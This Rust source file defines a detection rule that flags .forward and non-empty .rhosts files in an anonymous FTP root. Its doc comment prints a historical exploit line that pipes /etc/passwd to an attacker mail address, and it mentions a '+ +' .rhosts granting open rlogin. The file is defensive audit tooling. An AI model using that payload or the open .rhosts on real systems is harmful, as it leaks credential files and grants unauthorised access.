//! # FT003 anon-ftp-dotfile
//!
//! ## What it finds
//! A `.forward` file of any size, or a `.rhosts` (or `.shosts`) file that is not empty,
//! in the anonymous FTP root (`~ftp`).
//!
//! ## Why it matters
//! Nobody reads mail as `ftp` and nobody should log in as `ftp`: these files have no use
//! there but one. Uploading `~ftp/.forward` with `"|/bin/mail evil@example <
//! /etc/passwd"` and then mailing `ftp@host` was the anonymous FTP attack of the
//! 1996/97 holidays (JPCERT-E-INF-97-0001); a `.rhosts` with `+ +` lets anyone `rlogin`
//! as `ftp`. Their presence means the attack was made and most likely worked. (CERT's
//! guidelines suggest an *empty* `.rhosts` owned by root as a placeholder; that one is
//! not reported.)
//!
//! ## Example
//! ```text
//! home/ftp/.forward: mode 0644, owner ftp, group ftp, 41 bytes: "|/bin/mail evil@example.org < /etc/passwd"
//! ```
//!
//! ## What to do
//! Keep a copy as evidence, then remove it. Treat the host as compromised: look in the
//! mail log for mail to `ftp@` (the trigger), (3) change every user's password, (4) use
//! shadow passwords, (2) make `~ftp` owned by root and not writable, (5) rebuild where
//! an intrusion cannot be ruled out.
//!
//! ## References
//! - JPCERT/CC JPCERT-E-INF-97-0001-01
//! - CERT Advisory CA-93:10, "Anonymous FTP Activity"

use super::{anon_areas, describe, first_line, join};
use crate::Context;
use kensa_core::{Finding, Kind, Outcome, Rule, RuleStatus, Severity};

/// FT003: `.forward` or a non-empty `.rhosts` in the anonymous FTP root.
pub static RULE: Rule = Rule {
    code: "FT003",
    name: "anon-ftp-dotfile",
    kind: Kind::AnonFtpUpload,
    outcome: Outcome::Indicator,
    severity: Severity::Critical,
    title: ".forward or .rhosts in the anonymous FTP root",
    advice: "Keep a copy as evidence, then remove it; treat the host as compromised: look for \
             mail to ftp@ (the trigger), (3) change every password, (4) use shadow passwords, \
             (2) make ~ftp owned by root and not writable, (5) rebuild where an intrusion \
             cannot be ruled out.",
    status: RuleStatus::Stable,
    title_ja: "",
    advice_ja: "",
    since: "0.1.0",
    source: include_str!("ft003_dotfiles.rs"),
};

/// Bytes of a dot file read for evidence.
const MAX_READ: u64 = 64 << 10;

pub(crate) fn check(ctx: &mut Context<'_>) -> Vec<Finding> {
    let mut findings = Vec::new();
    for area in anon_areas(ctx) {
        for name in [".forward", ".rhosts", ".shosts"] {
            let rel = join(&area.home, name);
            let Ok(meta) = ctx.root.lstat(&rel) else {
                continue;
            };
            let shown = ctx.root.display(&rel);
            let content = match meta.kind {
                crate::FileKind::File => match ctx.root.read_prefix(&rel, MAX_READ) {
                    Ok((bytes, _)) => Some(bytes),
                    Err(err) => {
                        ctx.diagnose(
                            kensa_core::DiagnosticLevel::Warning,
                            &rel,
                            format!("cannot be read: {err}"),
                        );
                        None
                    }
                },
                _ => None,
            };
            let empty = meta.kind == crate::FileKind::File && meta.len == 0;
            if name != ".forward" && empty {
                continue;
            }
            let mut text = format!("{shown}: {}, {} bytes", describe(ctx, &meta), meta.len);
            match (&content, meta.kind) {
                (Some(bytes), _) if !bytes.is_empty() => {
                    text.push_str(&format!(": {:?}", first_line(bytes)));
                }
                (_, crate::FileKind::Symlink) => {
                    if let Ok(target) = ctx.root.read_link(&rel) {
                        text.push_str(&format!(" (a link to {})", target.display()));
                    }
                }
                _ => {}
            }
            let mut finding = ctx.finding(&RULE);
            finding.title = format!("{name} in the anonymous FTP root ({shown})");
            finding.subject.path = Some(shown.clone());
            finding.subject.users = vec![area.account.clone()];
            finding.count = 1;
            finding.push_evidence(crate::file_evidence(&shown, text));
            finding.merge_key = shown;
            findings.push(finding);
        }
    }
    findings
}
